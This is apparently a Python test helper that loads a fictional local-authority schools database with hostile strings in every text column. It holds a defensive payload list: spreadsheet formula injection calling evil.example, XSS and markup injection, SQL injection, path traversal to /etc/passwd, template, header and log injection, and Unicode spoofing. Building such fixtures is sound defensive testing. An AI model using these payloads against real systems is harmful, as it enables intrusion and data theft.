"""Text that tries to be obeyed, and a fictional LA whose every text column is full of it."""

import csv
import io
from collections.abc import Iterator
from unicodedata import category

import pandas as pd
from sqlalchemy import Engine

from access.scope import EVERYWHERE
from data_model.catalogue import DATASETS
from data_model.dataset import Column, Dataset
from loaders import files
from loaders.save import Consent
from loaders.upload_record import Sender
from sample_data.frames import csv_bytes
from sample_data.generate import generate

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/x","open")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=WEBSERVICE("https://evil.example/")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "  =1+1",
    "'=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    ";=1+1",
    '",=1+1,"',
)
MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/s.js></SCRIPT>",
    "<img src=https://evil.example/i.png onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)><use href=https://evil.example/u.svg#a></svg>",
    "<svg><a xlink:href=https://evil.example/l><text>x</text></a></svg>",
    "<iframe src=https://evil.example/f></iframe>",
    "<object data=https://evil.example/o></object>",
    "<embed src=https://evil.example/e>",
    "<link rel=stylesheet href=https://evil.example/c.css>",
    "<style>@import 'https://evil.example/c.css';</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=q><button>Go</button></form>",
    '<a href="https://evil.example/a">a</a>',
    '<a href="javascript:alert(1)">a</a>',
    "<b>hostile-bold</b><sub>hostile-low</sub><br>",
    "</td></table><h1>hostile-heading</h1>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "<!-- hostile-comment",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=https://evil.example/n.png&#62;",
)
MARKDOWN = (
    "[b](https://evil.example/b)",
    "![c](https://evil.example/c.png)",
    "[r][1]\n\n[1]: https://evil.example/r",
    "<https://evil.example/g>",
    "https://evil.example/d",
    "www.evil.example",
    "e@evil.example",
    "mailto:e@evil.example",
    "[j](javascript:alert(1))",
    "[d](data:text/html;base64,PHNjcmlwdD4=)",
    "**hostile-bold** *hostile-bold* __hostile-bold__",
    "~~hostile-struck~~",
    "`hostile-code`",
    "# hostile-heading",
    "1. hostile-list",
    "> hostile-quote",
    "| a | b |\n|---|---|\n| hostile | table |",
    "---",
)
STREAMLITS = (
    "$\\href{https://evil.example/t}{x}$",
    "$$x^2$$",
    "\\(x\\) \\[y\\]",
    ":red[hostile-colour]",
    ":red-background[hostile-colour]",
    ":rainbow[hostile-colour]",
    ":material/skull: x",
    ":streamlit: x",
    ":rocket: x",
    ":small[hostile-small]",
    ":red-badge[hostile-colour]",
    ":shortcut[hostile]",
)
OTHERS = (
    "\u202egpj.exe",
    "\u2066hidden\u2069",
    "zero\u200bwidth",
    "\ufefffirst",
    "e\u0301vil\u0300",
    "Z" + "\u0310" * 40,
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {0.__class__}",
    "%s %d %(x)s %n %{x}",
    "x'; DROP TABLE schools; --",
    "' OR '1'='1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "CON",
    "x\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b",
    'x\n{"level": "INFO", "message": "forged"}',
    "\x1b[31mred\x1b]0;title\x07\x1b]8;;https://evil.example/o\x07x",
    "\x9b31mred",
    "x\u2028y\u2029z",
    "null",
    "NaN",
    "\U0001f469\u200d\U0001f467",
    "\U000e0041\U000e0042",
)
LONG = "L" * 32_768
HOSTILE = tuple(dict.fromkeys([*FORMULAS, *MARKUP, *MARKDOWN, *STREAMLITS, *OTHERS, LONG]))
"""Each tries something else; the hosts are all evil.example."""

_REFERS = ("_id", "_ref")


def text_columns(dataset: Dataset) -> list[Column]:
    """The columns that hold text as it was typed."""
    return [column for column in dataset.columns.values() if column.kind is str]


EVERY_TEXT_COLUMN = [(dataset, column) for dataset in DATASETS.values() for column in text_columns(dataset)]


def accepted(column: Column) -> list[str]:
    """What the column takes: its own type, and the reader, which refuses characters that nobody sees."""
    return [text for text in HOSTILE if len(text) < 3_000 and _is_taken(column, text)]


def _is_taken(column: Column, text: str) -> bool:
    try:
        column.cells.validate_python([text])
    except ValueError:
        return False
    return text == text.strip() and not any(
        category(character) in ("Cc", "Cf") for character in text if character != "\n"
    )


def with_one(frame: pd.DataFrame, column: Column, sent: list[str]) -> bytes:
    """A file with a row for each string, in this column; its other cells are those of the frame's rows."""
    rows = _cells(frame)
    picked = [dict(rows[number % len(rows)]) for number in range(len(sent))]
    for row, text in zip(picked, sent, strict=True):
        row[column.name] = text
    return _csv(list(frame.columns), picked)


def with_all(frame: pd.DataFrame, dataset: Dataset, names: dict[str, str]) -> bytes:
    """The frame with hostile text wherever a column takes any. What is referred to stays one word in every file."""
    rows = _cells(frame)
    for place, column in enumerate(text_columns(dataset)):
        taken = accepted(column)
        for number, row in enumerate(rows if taken else []):
            if column.name.endswith(_REFERS):
                if row[column.name]:
                    row[column.name] = _renamed(row[column.name], column, taken, names)
            else:
                row[column.name] = taken[(number + place) % len(taken)]
    return _csv(list(frame.columns), rows)


def load_hostile(engine: Engine, schools: int, *, file_name: str = "hostile.csv", sender: str = "the test") -> None:
    """Fill an empty database with a fictional LA of two years whose every text column is hostile."""
    names: dict[str, str] = {}
    for name, frame in generate(schools, 2).items():
        content = with_all(frame, DATASETS[name], names)
        table, sha256 = files.read_file(content, file_name), files.sha256_of(content)
        sent_by, consent = Sender(sender, EVERYWHERE), Consent(True, True)
        checked, _ = files.load_table(engine, table, sha256, DATASETS[name], sent_by, consent=consent)
        assert checked.report.accepted > 0.9 * len(frame), name


def _renamed(reference: str, column: Column, taken: list[str], names: dict[str, str]) -> str:
    """A reference in hostile words, the same wherever it stands."""
    if reference not in names:
        hostile = f"{taken[len(names) % len(taken)]}{len(names)}"
        names[reference] = hostile if _is_taken(column, hostile) else reference
    return names[reference]


def _cells(frame: pd.DataFrame) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(csv_bytes(frame).decode())))


def _csv(header: list[str], rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, header)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def cells_of(file: str | bytes) -> Iterator[str]:
    """Every cell of a CSV file, headings too."""
    text = file if isinstance(file, str) else file.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")):
        yield from row
